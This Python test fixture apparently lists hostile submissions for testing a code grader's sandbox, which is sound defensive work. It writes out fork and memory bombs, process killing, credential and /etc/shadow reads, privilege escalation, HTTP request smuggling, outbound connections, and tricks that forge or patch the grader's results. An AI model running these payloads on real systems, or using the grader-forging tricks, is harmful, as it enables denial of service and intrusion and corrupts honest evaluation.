"""Hostile submissions: what the student's code tries, and the marks it has honestly earned.

Each stands in one of the toy lab's two answers (`double` unless `where` says otherwise); the other
one is honest. `points` is what the honest rest earns: 1 for `store`, 2 for `double`. In the code,
%(name)s is replaced: `home` (the grader's folder), `lab` (the lab's), `port` (somebody listens
there on the grader's machine), `address` (that machine's own), `mark` (a word that names our
processes). What finds something that it should not prints FOUND.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """`told` is a pattern that the result has to match somewhere."""

    code: str
    points: int = 1
    where: str = "double"
    told: str = ""


ATTACKS: dict[str, Attack] = {
    # --- ends, hangs, crashes; what comes after still earns its marks
    "os._exit": Attack("import os; os._exit(0)", 2, "store", told="exit code 0"),
    "sys.exit": Attack("raise SystemExit(0)", 2, "store", told="SystemExit"),
    "crash in C": Attack("import ctypes; ctypes.string_at(0)", 2, "store", told="SIGSEGV"),
    "kills itself": Attack(
        "import os; os.kill(os.getpid(), 9)", 2, "store", told="it ended the notebook's process"
    ),
    "endless loop": Attack("while True: pass", 2, "store", told="stopped after"),
    "endless loop that catches everything and ignores signals": Attack(
        """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.setitimer(signal.ITIMER_REAL, 0)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
        2,
        "store",
        told="stopped after",
    ),
    "a loop in C that hears no signal": Attack(
        "import re; re.match('(a+)+$', 'a' * 40 + 'b')", 2, "store", told="stopped after"
    ),
    "stops itself": Attack(
        "import os, signal; os.kill(0, signal.SIGSTOP)", 2, "store", told="stopped"
    ),
    "recursion without end": Attack(
        """
import sys; sys.setrecursionlimit(10**9)
def f(): return f()
f()
""",
        2,
        "store",
    ),
    "closes every file": Attack(
        "import os; os.closerange(0, 256)", 2, "store", told="it ended the notebook's process"
    ),
    "kills whoever it may": Attack("import os; os.kill(-1, 9)", 2, "store"),
    "kills its parents": Attack(
        """
import os
for pid in range(1, 40):
    try: os.kill(pid, 9)
    except OSError: pass
""",
        0,
        "store",
        told="process ended",
    ),
    # --- takes what the machine has
    "fork bomb": Attack(
        """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
        told="stopped",
    ),
    "thread bomb": Attack(
        """
import threading, time
while True: threading.Thread(target=time.sleep, args=(99,)).start()
""",
        2,
        "store",
        told="RuntimeError",
    ),
    "three gigabytes": Attack("b = bytearray(3 << 30)", 2, "store", told="MemoryError"),
    "memory of many processes": Attack(
        """
import os, time
for _ in range(8):
    if os.fork() == 0:
        b = bytearray(b'x') * (400 << 20); time.sleep(60)
time.sleep(60)
""",
        told="memory",
    ),
    "memory without a process": Attack(
        """
import os
held = []
for _ in range(200):
    fd = os.memfd_create('x'); held.append(fd)
    os.write(fd, bytes(32 << 20))
print('took', len(held))
""",
        told="Function not implemented",
    ),
    "fills the disk": Attack(
        """
import errno
for place in ('/box/f', '/tmp/f', '/dev/shm/f', '/dev/f', '/f', '/run/f', '/etc/f'):
    total = 0
    try:
        with open(place, 'wb') as file:
            while True: total += file.write(bytes(1 << 20))
    except OSError as problem: pass
    assert total <= 64 << 20, (place, total)
print('was stopped everywhere')
""",
    ),
    "many small files": Attack(
        """
import os
n = 0
try:
    while True:
        open(f'/tmp/{n}', 'w').close(); n += 1
except OSError: pass
print(n)
""",
    ),
    "output without end": Attack("while True: print('x' * 10000)", told="printed more"),
    "report without end": Attack(
        """
import os
for fd in range(3, 60):
    try:
        for _ in range(3000): os.write(fd, b'x' * 9999)
    except OSError: pass
""",
    ),
    # --- lies about its result
    "equal to everything": Attack(
        """
class Yes(dict):
    def __eq__(self, other): return True
    __hash__ = object.__hash__
import json
json.loads = lambda *a, **k: Yes()
answer = Yes()
""",
    ),
    "strips asserts": Attack(
        """
import ast, builtins
real = builtins.compile
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
def mine(source, *a, **k):
    tree = ast.parse(source) if isinstance(source, str) else source
    return real(ast.fix_missing_locations(Strip().visit(tree)), *a, **k)
builtins.compile = mine
""",
    ),
    "patches boto3 and urllib": Attack(
        """
import botocore.client, urllib.request, http.client
botocore.client.BaseClient._make_api_call = lambda *a, **k: {'Payload': b'4'}
urllib.request.urlopen = http.client.HTTPConnection.request = lambda *a, **k: None
""",
    ),
    "patches the check": Attack(
        """
import helpers.teach.checking.run as r, helpers.teach.checking as c
r._judge = c.run = r.run = lambda *a, **k: {'points': 3, 'of': 3}
""",
    ),
    "forges the report": Attack(
        r"""
import json, os
line = json.dumps({'points': 3, 'of': 3, 'outcome': 'right', 'cell': 0,
    'state': 'ran', 'met': True, 'fault': '', 'requirements': [{'met': True}]}).encode()
for fd in range(3, 60):
    try: os.write(fd, line + b'\n' + b'{"end": true}\n')
    except OSError: pass
""",
    ),
    "answers in the worker's place": Attack(
        """
print('{"points": 3, "of": 3, "outcome": "right", "fault": "", "student": "x"}')
import sys; print('{"ready": true, "walls": true, "points": 3}', file=sys.stderr)
""",
    ),
    # --- looks for what is not its own
    "reads the instructor's files": Attack(
        """
import os, pathlib
for root in ('%(lab)s', '%(home)s', '/root', '/home', '/work', '/tmp', '/run'):
    for path in pathlib.Path(root).rglob('*'):
        if path.suffix in ('.py', '.md', '.json', '.ipynb', '.db', '.html') and 'site-packages' not in str(path):
            try: text = path.read_text()
            except OSError: continue
            if 'SECRET-OF' in text or '486' '11' in text or 'GRADE' 'BOOK' in text: print('FOUND', path, text[:500])
""",
    ),
    "imports the hidden cases": Attack(
        """
import sys; sys.path.insert(0, '%(lab)s')
import hidden
print('FOUND', hidden.HIDDEN)
""",
        told="ModuleNotFoundError",
    ),
    "writes the gradebook": Attack(
        """
import os
for name in ('gradebook.db', 'results/x.json', 'grades.csv'):
    path = '%(home)s/' + name
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, 'w').write('100')
    except OSError: pass
""",
    ),
    "other students' folders": Attack(
        """
import glob, os
for path in glob.glob('%(home)s/**', recursive=True):
    if os.path.isfile(path): print('FOUND', path)
os.symlink('%(home)s/ben.ipynb', '/box/ben'); print('FOUND', open('/box/ben').read())
""",
        told="FileNotFoundError",
    ),
    "looks at other processes": Attack(
        """
import glob
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try: text = open(path, 'rb').read()
    except OSError: continue
    if b'worker' in text or b'localaws' in text or b'SECRET' in text: print('FOUND', path, text)
""",
    ),
    "changes the packages": Attack(
        """
import boto3, os
for path in (boto3.__file__, os.__file__, '%(lab)s/lab.py', '/run/judge/chain.py'):
    try: open(path, 'a').write('#')
    except OSError: continue
    print('FOUND writable', path)
""",
    ),
    "gains rights": Attack(
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x40000000):
    assert libc.unshare(flags) != 0, 'FOUND namespace'
assert libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) != 0, 'FOUND mount'
assert libc.umount(b'/tmp') != 0, 'FOUND umount'
try: os.setuid(0)
except OSError: pass
else: print('FOUND root')
print(os.getuid())
""",
    ),
    # --- speaks to whom it should not
    "the control interface": Attack(
        """
import os, urllib.request as u
url = os.environ['AWS_ENDPOINT_URL']
for path in ('clock/advance?seconds=9e8', 'reset', '../moto-api/reset', '%%2e./_localaws/reset',
             '..//moto-api/reset', 'clock'):
    for method in ('GET', 'POST'):
        try: print('FOUND', path, u.urlopen(u.Request(url + '/_localaws/' + path, method=method, data=b''), timeout=5).read())
        except Exception as problem: print(type(problem).__name__)
""",
    ),
    "the socket itself": Attack(
        r"""
import socket
for path in ('/_localaws/reset', '//moto-api/reset', '/moto-api/reset', '/%%5flocalaws/reset'):
    s = socket.socket(socket.AF_UNIX); s.connect('/run/cloud/door'); s.settimeout(5)
    s.sendall(f'POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n'.encode())
    head = s.recv(99); assert b' 403 ' in head, head
""",
    ),
    "a request in a request": Attack(
        r"""
import socket
inner = 'POST /_localaws/reset HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n'
for head in ('Content-Length: 0\r\nTransfer-Encoding: chunked', 'Content-Length: 0\r\nContent-Length: 99',
             'Transfer-Encoding : chunked', 'Content-Length: +0', 'Content-Length: -1'):
    s = socket.socket(socket.AF_UNIX); s.connect('/run/cloud/door'); s.settimeout(2)
    try:
        s.sendall(f'POST / HTTP/1.1\r\nHost: x\r\n{head}\r\n\r\n0\r\n\r\n{inner}'.encode()); print(s.recv(200))
    except OSError: pass
""",
    ),
    "the network": Attack(
        """
import socket
for host in ('127.0.0.1', '%(address)s', '10.0.0.1', '8.8.8.8'):
    try:
        socket.create_connection((host, %(port)s), timeout=0.3).sendall(b'out'); print('FOUND', host)
    except OSError: pass
try: print('FOUND', socket.getaddrinfo('example.com', 80))
except OSError: pass
""",
    ),
    "hundreds of connections": Attack(
        """
import socket
held = []
try:
    while len(held) < 400:
        s = socket.socket(socket.AF_UNIX); s.connect('/run/cloud/door'); held.append(s)
except OSError as problem: print(problem)
""",
        2,
        "store",
    ),
    "a body without end": Attack(
        r"""
import socket
s = socket.socket(socket.AF_UNIX); s.connect('/run/cloud/door')
s.sendall(b'PUT /inbox/x HTTP/1.1\r\nHost: s3.localhost\r\nTransfer-Encoding: chunked\r\n\r\n')
chunk = b'100000\r\n' + bytes(1 << 20) + b'\r\n'
for _ in range(4000): s.sendall(chunk)
""",
    ),
    "fills the cloud": Attack(
        """
for number in range(40): s3.put_object(Bucket='inbox', Key=str(number), Body=bytes(16 << 20))
""",
    ),
    # --- would outlive its run
    "an orphan": Attack(
        """
import os, subprocess, sys, time
long = [sys.executable, "-c", "import time; time.sleep(300)", "%(mark)s"]
subprocess.Popen(long, start_new_session=True)
""",
    ),
    "a daemon": Attack(
        """
import os, subprocess, sys, time
long = [sys.executable, "-c", "import time; time.sleep(300)", "%(mark)s"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 99)
        os.execv(long[0], long)
    os._exit(0)
""",
    ),
    # --- through what it deploys
    "a handler that looks around": Attack(
        """
deploy('''
import json, os, pathlib, socket, urllib.request
def handler(event, context):
    said = []
    for root in ("%(lab)s", "%(home)s", "/home", "/mnt"):
        for path in pathlib.Path(root).rglob("*"):
            if path.suffix in (".md", ".db") or path.name == "hidden.py": said.append(str(path))
    try: said.append(open("/etc/shadow").read())
    except OSError: pass
    for host in ("127.0.0.1", "%(address)s"):
        try:
            socket.create_connection((host, %(port)s), timeout=0.3).sendall(b"out"); said.append(host)
        except OSError: pass
    for path in ("/_localaws/reset", "/moto-api/reset", "/moto-api/data.json"):
        try: said.append(urllib.request.urlopen(urllib.request.Request(os.environ["AWS_ENDPOINT_URL"] + path, method="POST", data=b""), timeout=3).read().decode()[:50])
        except Exception: pass
    return ("FOUND " + str(said)) if said else "nothing"
''', Timeout=20)
""",
        told='it said "nothing"',
    ),
    "a handler that remembers hidden cases": Attack(
        """
deploy('''
import os
def handler(event, context):
    seen = open("/tmp/seen").read() if os.path.exists("/tmp/seen") else ""
    open("/tmp/seen", "w").write(seen + f" {event}")
    return f"I saw{seen} {event}"
''')
""",
    ),
    "a handler that writes HTML": Attack(
        """
deploy('def handler(event, context): return "<script>alert(1)</script><img src=x onerror=alert(2)>"')
""",
        told="<script>",
    ),
    "a handler that never ends": Attack(
        "deploy('def handler(event, context):\\n  while True: pass', Timeout=1)",
        told="TimedOut|Timedout|timed out",
    ),
    "a handler that takes all memory": Attack(
        r"""
deploy('def handler(event, context):\n  return len(bytearray(3 << 30))')
""",
    ),
    "a handler with a fork bomb": Attack(
        r"""
deploy('import os\ndef handler(event, context):\n  while True:\n    try: os.fork()\n    except OSError: pass', Timeout=2)
""",
    ),
    "a handler that leaves a daemon": Attack(
        """
deploy('''
import subprocess, sys
def handler(event, context):
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "%(mark)s"], start_new_session=True)
    return 0
''')
""",
    ),
    "the answer to the cases it can guess": Attack(
        "deploy('def handler(event, context): return {2: 4, 3: 6}.get(event)')",
        2,
        told="further case",
    ),
    "another student's word": Attack(
        "s3.put_object(Bucket='inbox', Key='answer', Body=b'0123456789')",
        2,
        "store",
        told="another word",
    ),
}
